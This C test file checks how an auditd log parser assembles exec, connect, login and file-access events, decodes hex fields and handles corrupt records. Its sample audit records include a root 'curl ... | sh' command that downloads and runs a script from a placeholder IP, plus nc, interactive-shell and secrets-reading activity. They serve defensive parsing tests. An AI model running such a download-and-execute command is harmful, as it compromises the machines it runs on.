/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-parse-auditd.c - the auditd parser: one event per record line, the
 * exec and connect views assembled across interleaved records (hex, split
 * and multi-record argv, IPv6 sockaddr, keys joined by 0x01), the decoded
 * fields() view, corrupt headers naming their byte, sniff scores, and
 * conformance: auparse's own field walk (auparse_test.ref) for every record
 * of test.log, test2.log and test4.log, and plaso's selinux.log / audit_enriched.log
 * counts.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <tyto/buf.h>
#include <tyto/parser.h>

#include "parse/parse-auditd-int.h"
#include "parse-harness.h"
#include "test.h"

/* formats.md §7.7, with the real 0x1D separators */
static const char *const ex[] = {
    "type=SYSCALL msg=audit(1710252309.417:8812): arch=c000003e syscall=59 success=yes exit=0 "
    "a0=5600c1a2f0a0 a1=5600c1a2f100 a2=5600c1a2f118 a3=0 items=2 ppid=2201 pid=2244 auid=1000 "
    "uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=7 comm=\"bash\" "
    "exe=\"/usr/bin/bash\" subj=unconfined key=\"exec_watch\"\x1d" "ARCH=x86_64 SYSCALL=execve "
    "AUID=\"alice\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" "
    "EGID=\"root\" SGID=\"root\" FSGID=\"root\"",
    "type=EXECVE msg=audit(1710252309.417:8812): argc=3 a0=\"bash\" a1=\"-c\" "
    "a2=6375726C202D7320687474703A2F2F3230332E302E3131332E392F782E7368207C207368",
    "type=CWD msg=audit(1710252309.417:8812): cwd=\"/tmp\"",
    "type=PATH msg=audit(1710252309.417:8812): item=0 name=\"/usr/bin/bash\" inode=393311 "
    "dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
    "cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\"",
    "type=PROCTITLE msg=audit(1710252309.417:8812): proctitle=62617368002D63006375726C202D7320"
    "687474703A2F2F3230332E302E3131332E392F782E7368207C207368",
    "type=EOE msg=audit(1710252309.417:8812):",
    "type=SYSCALL msg=audit(1710252309.503:8813): arch=c000003e syscall=42 success=no "
    "exit=-115 a0=3 a1=7ffd4c2a1b60 a2=10 a3=0 items=0 ppid=2244 pid=2245 auid=1000 uid=0 gid=0 "
    "euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=7 comm=\"curl\" "
    "exe=\"/usr/bin/curl\" subj=unconfined key=\"net_connect\"\x1d" "ARCH=x86_64 SYSCALL=connect "
    "AUID=\"alice\" UID=\"root\" GID=\"root\" EUID=\"root\" SUID=\"root\" FSUID=\"root\" "
    "EGID=\"root\" SGID=\"root\" FSGID=\"root\"",
    "type=SOCKADDR msg=audit(1710252309.503:8813): saddr=020001BBCB0071090000000000000000\x1d"
    "SADDR={ saddr_fam=inet laddr=203.0.113.9 lport=443 }",
    "type=USER_CMD msg=audit(1710252401.112:8840): pid=2301 uid=1000 auid=1000 ses=7 "
    "subj=unconfined msg='cwd=\"/home/alice\" cmd=2F62696E2F62617368202D69 "
    "exe=\"/usr/bin/sudo\" terminal=pts/1 res=success'\x1dUID=\"alice\" AUID=\"alice\"",
};

static const char exec_json[] =
    "{'ts':'2024-03-12T14:05:09.417Z','ts_prec':3,'time_text':'1710252309.417:8812',"
    "'category':'process','action':'exec','provider':'auditd','outcome':'success',"
    "'correlation_id':'1710252309.417:8812','actor':'alice','actor_id':'1000',"
    "'actor_session':'7','actor_effective':'root','pid':2244,'ppid':2201,"
    "'process_exe':'/usr/bin/bash','process_cmdline':'bash -c curl -s http://203.0.113.9/x.sh "
    "| sh','process_uid':0,'process_user':'root','process_cwd':'/tmp','rule':'exec_watch',"
    "'format':'auditd','offset':0,'line':1}\n";

static const char connect_json[] =
    "{'ts':'2024-03-12T14:05:09.503Z','ts_prec':3,'time_text':'1710252309.503:8813',"
    "'category':'network','action':'connect','provider':'auditd','outcome':'unknown',"
    "'correlation_id':'1710252309.503:8813','actor':'alice','actor_id':'1000',"
    "'actor_session':'7','actor_effective':'root','dst_ip':'203.0.113.9','dst_port':443,"
    "'net_direction':'outbound','pid':2245,'ppid':2244,'process_exe':'/usr/bin/curl',"
    "'process_uid':0,'process_user':'root','rule':'net_connect','format':'auditd','offset':0,"
    "'line':1}\n";

static const char usercmd_json[] =
    "{'ts':'2024-03-12T14:06:41.112Z','ts_prec':3,'time_text':'1710252401.112:8840',"
    "'category':'process','action':'USER_CMD','provider':'auditd','outcome':'success',"
    "'correlation_id':'1710252401.112:8840','actor':'alice','actor_id':'1000',"
    "'actor_session':'7','pid':2301,'process_exe':'/usr/bin/sudo','process_cmdline':"
    "'/bin/bash -i','process_uid':1000,'process_cwd':'/home/alice','format':'auditd',"
    "'offset':0,'line':1}\n";

static int feed0(struct h *h, const char *line)
{
    h->offset = 0;
    return h_feed_raw(h, line, strlen(line));
}

static int tax(const struct h *h)
{
    return ty_parser_auditd.taxonomy(&h->last);
}

/* fields() collected as "name=value\n" */
static int collect(void *arg, struct ty_str name, struct ty_str value)
{
    struct ty_buf *b = arg;
    ty_buf_addstr(b, name);
    ty_buf_addc(b, '=');
    ty_buf_addstr(b, value);
    ty_buf_addc(b, '\n');
    return 0;
}

static void test_example(void)
{
    struct h h;
    struct ty_buf f;
    int taxes[9];
    ty_buf_init(&f, 0);
    h_open(&h, &ty_parser_auditd, ex[0], strlen(ex[0]));
    CHECK_STR(h.ctx.shape, "enriched audit.log");
    for (int i = 0; i < 9; i++) {
        CHECK_INT(feed0(&h, ex[i]), TY_OK);
        CHECK_INT(h.n, 1);
        taxes[i] = tax(&h);
        if (i == 2)
            CHECK_STR(h.out.buf, q(&h, exec_json));
        if (i == 7)
            CHECK_STR(h.out.buf, q(&h, connect_json));
        if (i == 8)
            CHECK_STR(h.out.buf, q(&h, usercmd_json));
        if (i == 1 || i == 6 || i == 7) {
            ty_buf_reset(&f);
            CHECK_INT(ty_parser_auditd.fields(&h.last, collect, &f), 0);
            if (i == 1)
                CHECK_STR(f.buf, "type=EXECVE\nargc=3\na0=bash\na1=-c\n"
                                 "a2=curl -s http://203.0.113.9/x.sh | sh\n");
            if (i == 6)
                CHECK(strstr(f.buf, "\nexit=-115\n") && strstr(f.buf, "\ncomm=curl\n") &&
                      strstr(f.buf, "\nkey=net_connect\nARCH=x86_64\nSYSCALL=connect\n") &&
                      strstr(f.buf, "\nAUID=alice\n"));
            if (i == 7)
                CHECK_STR(f.buf, "type=SOCKADDR\nsaddr=020001BBCB0071090000000000000000\n"
                                 "SADDR={ saddr_fam=inet laddr=203.0.113.9 lport=443 }\n");
        }
    }
    /* the assembled views sit on one line each */
    int want[9] = {0, 0, TY_SCAT_PROCESS_CREATION, 0, 0, 0, 0, TY_SCAT_NETWORK_CONNECTION, 0};
    for (int i = 0; i < 9; i++)
        CHECK_INT(taxes[i], want[i]);
    ty_buf_release(&f);
    h_close(&h);
}

/* Raw log: two events interleaved, an argument split in pieces, hex cwd,
 * an IPv6 connect, a key list, an argv spread over two EXECVE records. */
static void test_assembly(void)
{
    struct h h;
    struct ty_buf f;
    char ipb[TY_IP_STRLEN];
    const char *l[] = {
        "type=SYSCALL msg=audit(1700000000.100:10): arch=c000003e syscall=59 success=yes exit=0 "
        "a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=100 auid=4294967295 uid=33 gid=33 euid=33 "
        "suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm=\"sh\" "
        "exe=\"/usr/bin/dash\" key=(null)",
        "type=SYSCALL msg=audit(1700000000.101:11): arch=c000003e syscall=42 success=yes exit=0 "
        "a0=3 a1=7ffd a2=1c a3=0 items=0 ppid=100 pid=200 auid=1000 uid=33 gid=33 euid=33 "
        "suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=3 comm=\"nc\" "
        "exe=\"/usr/bin/nc.openbsd\" key=6E65740165786563",
        "type=EXECVE msg=audit(1700000000.100:10): argc=3 a0=\"sh\" a1=\"-c\" a2_len=10 "
        "a2[0]=6563686F2068 a2[1]=656C6C6F",
        "type=SOCKADDR msg=audit(1700000000.101:11): "
        "saddr=0A0001BB0000000020010DB800000000000000000000000100000000",
        "type=CWD msg=audit(1700000000.100:10): cwd=2F746D702F612062",
        "type=EOE msg=audit(1700000000.100:10):",
        "type=SYSCALL msg=audit(1700000001.000:12): arch=c000003e syscall=59 success=no "
        "exit=-2 a0=1 a1=2 a2=3 a3=0 items=1 ppid=1 pid=300 auid=0 uid=0 gid=0 euid=0 suid=0 "
        "fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"x\" exe=\"/usr/bin/x\" key=(null)",
        "type=EXECVE msg=audit(1700000001.000:12): argc=3 a0=\"x\" a1=\"y\"",
        "type=EXECVE msg=audit(1700000001.000:12): a2=\"z\"",
        "type=PROCTITLE msg=audit(1700000001.000:12): proctitle=780079007A",
    };
    h_open(&h, &ty_parser_auditd, l[0], strlen(l[0]));
    CHECK_STR(h.ctx.shape, "raw audit.log");
    ty_buf_init(&f, 0);
    for (int i = 0; i < 10; i++) {
        CHECK_INT(feed0(&h, l[i]), TY_OK);
        CHECK_INT(h.n, 1);
        if (i == 1) {
            CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "connect");
            CHECK_SPAN(ty_event_str(&h.last, TY_F_RULE), "net");
            ty_buf_reset(&f);
            ty_parser_auditd.fields(&h.last, collect, &f);
            CHECK(strstr(f.buf, "\nkey=net\nkey=exec\nSYSCALL=connect\n") != NULL);
        }
        if (i == 2) {
            CHECK_INT(tax(&h), TY_SCAT_NONE); /* waits for the CWD */
            ty_buf_reset(&f);
            ty_parser_auditd.fields(&h.last, collect, &f);
            CHECK_STR(f.buf, "type=EXECVE\nargc=3\na0=sh\na1=-c\na2_len=10\na2=echo hello\n");
            ty_buf_reset(&f);
            ty__audit_walk(ty_str_cstr(l[2]), TY__AW_RAW, collect, &f);
            CHECK_STR(f.buf, "type=EXECVE\nargc=3\na0=\"sh\"\na1=\"-c\"\na2_len=10\n"
                             "a2[0]=6563686F2068\na2[1]=656C6C6F\n");
        }
        if (i == 3) {
            CHECK_INT(tax(&h), TY_SCAT_NETWORK_CONNECTION);
            CHECK_STR(ipstr(&h.last, TY_F_DST_IP, ipb), "2001:db8::1");
            CHECK_INT(ty_event_int(&h.last, TY_F_DST_PORT, 0), 443);
            CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_EXE), "/usr/bin/nc.openbsd");
            CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "success");
            CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR_ID), "1000");
        }
        if (i == 4) {
            CHECK_INT(tax(&h), TY_SCAT_PROCESS_CREATION);
            CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE), "sh -c echo hello");
            CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CWD), "/tmp/a b");
            CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_EXE), "/usr/bin/dash");
            CHECK_INT(ty_event_int(&h.last, TY_F_PROC_UID, -1), 33);
            CHECK_INT(ty_event_int(&h.last, TY_F_PID, -1), 100);
            CHECK(!ty_event_has(&h.last, TY_F_ACTOR_ID));      /* auid unset */
            CHECK(!ty_event_has(&h.last, TY_F_ACTOR_SESSION)); /* ses unset */
            CHECK(!ty_event_has(&h.last, TY_F_PROC_USER));     /* raw: no names */
            CHECK(!ty_event_has(&h.last, TY_F_RULE));          /* key=(null) */
        }
        if (i == 5)
            CHECK_INT(tax(&h), TY_SCAT_NONE); /* already assembled */
        if (i == 7 || i == 8)
            CHECK_INT(tax(&h), TY_SCAT_NONE);
        if (i == 9) {
            CHECK_INT(tax(&h), TY_SCAT_PROCESS_CREATION); /* no CWD: the next record */
            CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE), "x y z");
            CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure");
            CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR_ID), "0");
        }
    }
    /* the parent image: the last exe a SYSCALL record showed for the ppid */
    CHECK_INT(feed0(&h, "type=SYSCALL msg=audit(1700000002.000:13): arch=c000003e syscall=59 "
                        "success=yes exit=0 ppid=200 pid=400 uid=33 exe=\"/bin/sh\""),
              TY_OK);
    CHECK_INT(feed0(&h, "type=EXECVE msg=audit(1700000002.000:13): argc=1 a0=\"sh\""), TY_OK);
    CHECK_INT(feed0(&h, "type=CWD msg=audit(1700000002.000:13): cwd=\"/\""), TY_OK);
    CHECK_INT(tax(&h), TY_SCAT_PROCESS_CREATION);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PARENT_EXE), "/usr/bin/nc.openbsd");
    ty_buf_release(&f);
    h_close(&h);
}

static void test_records(void)
{
    struct h h;
    char ipb[TY_IP_STRLEN];
    const char *login = "node=web-1 type=USER_LOGIN msg=audit(1700000100.5:20): pid=900 uid=0 "
                        "auid=1000 ses=9 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" "
                        "hostname=198.51.100.7 addr=198.51.100.7 terminal=ssh res=failed'";
    h_open(&h, &ty_parser_auditd, login, strlen(login));
    CHECK_STR(h.ctx.shape, "raw audit.log with node names");
    CHECK_INT(feed0(&h, login), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CATEGORY), "auth");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "USER_LOGIN");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_HOST), "web-1");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_STATUS_DETAIL), "login");
    CHECK_STR(ipstr(&h.last, TY_F_SRC_IP, ipb), "198.51.100.7");
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1700000100005000000)); /* .5 = 5 ms */
    const char *add = "type=ADD_USER msg=audit(1783414573.160:408): pid=2062 uid=0 auid=0 ses=6 "
                      "msg='op=add-user acct=\"specimenuser\" exe=\"/usr/bin/useradd\" "
                      "hostname=? addr=? terminal=? res=success'\x1dUID=\"root\" AUID=\"root\"";
    CHECK_INT(feed0(&h, add), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CATEGORY), "iam");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_USER), "specimenuser");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTOR), "root");
    CHECK(!ty_event_has(&h.last, TY_F_SRC_IP) && !ty_event_has(&h.last, TY_F_SRC_ADDR));
    const char *avc = "type=AVC msg=audit(1170021493.977:293): avc:  denied  { read write } "
                      "for  pid=13010 comm=\"pickup\" name=\"maildrop\" dev=hda7 tclass=dir";
    CHECK_INT(feed0(&h, avc), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_DISPOSITION), "blocked");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_FILE_PATH), "maildrop");

    /* a PATH record names the process of its event's (non-exec) SYSCALL: who opened it */
    const char *op = "type=SYSCALL msg=audit(1793101930.051:618836): arch=c000003e syscall=257 "
                     "success=yes exit=6 a0=ffffff9c items=2 ppid=1 pid=11530 auid=4294967295 "
                     "uid=998 comm=\"[kworker/14:1]\" exe=\"/dev/shm/kworker\" key=\"app_secrets\"";
    const char *pa = "type=PATH msg=audit(1793101930.051:618836): item=1 "
                     "name=\"/opt/orders-api/config/application.yml\" inode=381589 nametype=NORMAL";
    CHECK_INT(feed0(&h, op), TY_OK);
    CHECK_INT(feed0(&h, pa), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_FILE_PATH), "/opt/orders-api/config/application.yml");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_EXE), "/dev/shm/kworker");
    CHECK_INT(ty_event_int(&h.last, TY_F_PID, 0), 11530);
    CHECK_INT(ty_event_int(&h.last, TY_F_PROC_UID, -1), 998);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_RULE), "app_secrets");

    /* the kernel's form: numeric type, no "msg=" (journal, dmesg) */
    const char *kern = "audit: type=1300 audit(1710252309.417:9001): arch=c000003e syscall=59 "
                       "success=yes exit=0 ppid=1 pid=7 auid=0 uid=0 exe=\"/usr/bin/id\"";
    CHECK_INT(feed0(&h, kern), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CATEGORY), "syscall");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "execve");
    struct ty_buf f;
    ty_buf_init(&f, 0);
    ty_parser_auditd.fields(&h.last, collect, &f);
    CHECK(ty_str_starts(ty_buf_str(&f), "type=SYSCALL\narch=c000003e\nsyscall=59\n"));
    ty_buf_release(&f);
    CHECK_INT(feed0(&h, "type=1309 msg=audit(1710252309.417:9001): argc=1 a0=\"id\""), TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "EXECVE");
    CHECK_INT(feed0(&h, "type=1307 msg=audit(1710252309.417:9001): cwd=\"/\""), TY_OK);
    CHECK_INT(tax(&h), TY_SCAT_PROCESS_CREATION);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE), "id");

    /* corrupt headers: TY_ECORRUPT naming the byte */
    CHECK_INT(feed0(&h, "type=SYSCALL msg=audit(1700000000:12): x=1"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "byte 23") != NULL);
    CHECK_INT(feed0(&h, "type=X msg=audit(1700000000.1234:12): x=1"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "milliseconds") != NULL);
    CHECK_INT(feed0(&h, "msg=audit(1700000000.123:12): x=1"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "byte 0") != NULL);
    CHECK_INT(feed0(&h, "type= msg=audit(1700000000.123:12): x=1"), TY_ECORRUPT);
    CHECK_INT(feed0(&h, "type=X msg=audit(1700000000.123:12 x=1"), TY_ECORRUPT);
    CHECK_INT(feed0(&h, "type=X msg=audit(1700000000.123:12): a=1\nb=2"), TY_ECORRUPT);
    /* a record with no body is still a record */
    CHECK_INT(feed0(&h, "type=NOMSG msg=audit(1337845222.174:94984):"), TY_OK);
    h_close(&h);

    /* sniff */
    CHECK_INT(ty_parser_auditd.sniff(ty_str_cstr(ex[0])), 95);
    CHECK_INT(ty_parser_auditd.sniff(ty_str_cstr(login)), 95);
    CHECK_INT(ty_parser_auditd.sniff(ty_str_cstr("junk\ntype=EOE msg=audit(1.2:3):\n")), 70);
    CHECK_INT(ty_parser_auditd.sniff(ty_str_cstr("Mar 12 15:04:58 h sshd[1]: x\n")), 0);
    CHECK_INT(ty_parser_auditd.sniff(ty_str_cstr("{\"type\":\"SYSCALL\"}\n")), 0);
}

/* A long run in bounded memory: 20000 events interleaving by two, every
 * line an event, each exec assembled once. */
static int count_exec(void *arg, struct ty_event *ev)
{
    unsigned *n = arg;
    n[0]++;
    n[1] += ty_parser_auditd.taxonomy(ev) == TY_SCAT_PROCESS_CREATION;
    return 0;
}

static void test_volume(void)
{
    struct h h;
    unsigned n[2] = {0, 0};
    char a[256], b[256];
    const char *head = "type=EOE msg=audit(1.000:1):";
    h_open(&h, &ty_parser_auditd, head, strlen(head));
    h.ctx.emit = count_exec;
    h.ctx.sink = n;
    for (unsigned i = 0; i < 20000; i += 2) {
        for (unsigned k = 0; k < 2; k++) {
            snprintf(a, sizeof(a), "type=SYSCALL msg=audit(1700000000.000:%u): arch=c000003e "
                     "syscall=59 success=yes exit=0 pid=%u uid=0 exe=\"/bin/true\"", i + k, i + k);
            CHECK_INT(feed0(&h, a), TY_OK);
        }
        for (unsigned k = 0; k < 2; k++) {
            snprintf(b, sizeof(b), "type=EXECVE msg=audit(1700000000.000:%u): argc=1 a0=\"true\"",
                     i + k);
            CHECK_INT(feed0(&h, b), TY_OK);
        }
        for (unsigned k = 0; k < 2; k++) {
            snprintf(b, sizeof(b), "type=CWD msg=audit(1700000000.000:%u): cwd=\"/\"", i + k);
            CHECK_INT(feed0(&h, b), TY_OK);
        }
    }
    CHECK_INT(n[0], 60000);
    CHECK_INT(n[1], 20000);
    h_close(&h);
}

/* ---- conformance ----------------------------------------------------------- */

struct walked {
    char buf[65536];
    size_t len;
};

static int walk_collect(void *arg, struct ty_str name, struct ty_str value)
{
    struct walked *w = arg;
    int n = snprintf(w->buf + w->len, sizeof(w->buf) - w->len, "%.*s=%.*s\n", (int)name.len,
                     name.p, (int)value.len, value.p);
    if (n > 0 && (size_t)n < sizeof(w->buf) - w->len)
        w->len += (size_t)n;
    return 0;
}

/* The line-th line of text (1-based). */
static struct ty_str nth_line(const char *text, unsigned line)
{
    const char *p = text;
    for (unsigned i = 1; i < line && p; i++) {
        p = strchr(p, '\n');
        if (p)
            p++;
    }
    if (!p || !*p)
        return TY_STR_NULL;
    const char *e = strchr(p, '\n');
    return ty_str_make(p, e ? (size_t)(e - p) : strlen(p));
}

/* Walk one "Starting Test N" section of auparse_test.ref over log; every
 * record's field list must equal our raw walk of the same line. */
static void ref_section(const char *ref, const char *title, const char *log, const char *log2,
                        unsigned *recs, unsigned *fields, unsigned *bad)
{
    const char *s = strstr(ref, title), *end;
    if (!s)
        return;
    end = strstr(s, " Done");
    const char *p = s;
    while ((p = strstr(p, "    line=")) && p < end) {
        unsigned line = (unsigned)strtoul(p + 9, NULL, 10);
        const char *eol = strchr(p + 4, '\n');
        const char *text = log;
        if (log2 && eol && eol - p > 14 && memcmp(eol - 9, "test2.log", 9) == 0)
            text = log2; /* Test 5 walks test2.log, then test.log */
        /* the field lines: after "event time:" up to a blank line */
        const char *f = strstr(p, "event time:");
        if (!f || f > end)
            break;
        f = strchr(f, '\n') + 1;
        char want[65536];
        size_t wl = 0;
        unsigned nf = 0;
        while (*f == ' ' && f[1] == ' ') {
            const char *e = strchr(f, '\n');
            const char *t = f;
            while (*t == ' ')
                t++;
            if (wl + (size_t)(e - t) + 1 < sizeof(want)) {
                memcpy(want + wl, t, (size_t)(e - t));
                wl += (size_t)(e - t);
                want[wl++] = '\n';
            }
            nf++;
            f = e + 1;
        }
        want[wl] = '\0';
        struct walked w;
        w.len = 0;
        w.buf[0] = '\0';
        struct ty_str l = nth_line(text, line);
        ty__audit_walk(l, TY__AW_RAW, walk_collect, &w);
        (*recs)++;
        *fields += nf;
        if (strcmp(w.buf, want) != 0) {
            (*bad)++;
            ty_test_fail(__FILE__, __LINE__, "%s line %u: fields differ:\n%s--- auparse:\n%s",
                         title, line, w.buf, want);
        }
        p = f;
    }
}

static void test_conformance(void)
{
    const char *data = ty_test_data_dir();
    char path[1024];
    size_t len;
    if (!data) {
        ty_test_skip("no shared data: auditd conformance skipped");
        return;
    }
    snprintf(path, sizeof(path), "%s/linux-audit-userspace/auparse/test/auparse_test.ref", data);
    char *ref = ty_test_read_file(path, &len);
    snprintf(path, sizeof(path), "%s/linux-audit-userspace/auparse/test/test.log", data);
    char *log1 = ty_test_read_file(path, &len);
    snprintf(path, sizeof(path), "%s/linux-audit-userspace/auparse/test/test4.log", data);
    char *log4 = ty_test_read_file(path, &len);
    snprintf(path, sizeof(path), "%s/linux-audit-userspace/auparse/test/test2.log", data);
    char *log2 = ty_test_read_file(path, &len);
    if (!ref || !log1 || !log4) {
        ty_test_skip("audit-userspace samples not found");
    } else {
        unsigned recs = 0, fields = 0, bad = 0;
        ref_section(ref, "Starting Test 4,", log1, NULL, &recs, &fields, &bad);
        CHECK_INT(recs, 12);
        ref_section(ref, "Starting Test 11,", log4, NULL, &recs, &fields, &bad);
        CHECK_INT(recs, 25);
        if (log2) {
            ref_section(ref, "Starting Test 5,", log1, log2, &recs, &fields, &bad);
            CHECK_INT(recs, 49);
        }
        CHECK(fields > 400);
        CHECK_INT(bad, 0);
        printf("  auditd conformance: auparse_test.ref %u records, %u fields, %u differ\n", recs,
               fields, bad);
        /* every record of each file is one event */
        struct h h;
        struct run_counts c = h_run(&h, &ty_parser_auditd, log4);
        CHECK_INT(c.rec, 13);
        CHECK_INT(c.ev, 13);
        CHECK_INT(c.bad, 0);
        h_close(&h);
    }
    free(ref);
    free(log1);
    free(log2);
    free(log4);

    /* plaso: selinux.log 7 events + 4 bad lines; audit_enriched.log 29 events */
    static const struct {
        const char *file;
        unsigned ev, bad;
    } plaso[] = {{"selinux.log", 7, 4}, {"audit_enriched.log", 29, 0}};
    for (size_t i = 0; i < 2; i++) {
        snprintf(path, sizeof(path), "%s/plaso/test_data/%s", data, plaso[i].file);
        char *t = ty_test_read_file(path, &len);
        if (!t) {
            ty_test_skip("plaso audit samples not found");
            continue;
        }
        struct h h;
        struct run_counts c = h_run(&h, &ty_parser_auditd, t);
        CHECK_INT(c.ev, plaso[i].ev);
        CHECK_INT(c.bad, plaso[i].bad);
        CHECK_INT(c.rec, c.ev + c.bad); /* records read = events + quarantined */
        if (i == 1) {
            /* sudo's USER_CMD in the enriched file: names from the audited host */
            CHECK(strstr(h.out.buf, "\"action\":\"USER_CMD\"") != NULL);
            CHECK(strstr(h.out.buf, "\"target_user\":\"specimenuser\"") != NULL);
        }
        h_close(&h);
        free(t);
    }
}

void test_parse_auditd(void);
void test_parse_auditd(void)
{
    test_example();
    test_assembly();
    test_records();
    test_volume();
    test_conformance();
    q_release();
}
